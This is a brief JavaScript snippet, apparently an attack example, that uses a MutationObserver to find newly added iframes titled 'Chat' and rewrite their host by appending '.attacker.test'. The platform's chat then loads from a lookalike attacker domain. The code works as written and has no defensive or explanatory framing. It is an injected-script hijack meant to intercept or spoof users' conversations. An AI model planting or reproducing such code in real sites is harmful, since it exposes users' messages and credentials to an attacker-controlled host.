// Takes the chat's frame to another site, whose name begins as the platform's does.
"use strict";
new MutationObserver((changes) => {
  const added = changes.flatMap(({ addedNodes }) => [...addedNodes]);
  for (const frame of added.filter(({ title }) => title === "Chat")) {
    const url = new URL(frame.src);
    url.host += ".attacker.test";
    frame.src = url.href;
  }
}).observe(document, { childList: true, subtree: true });
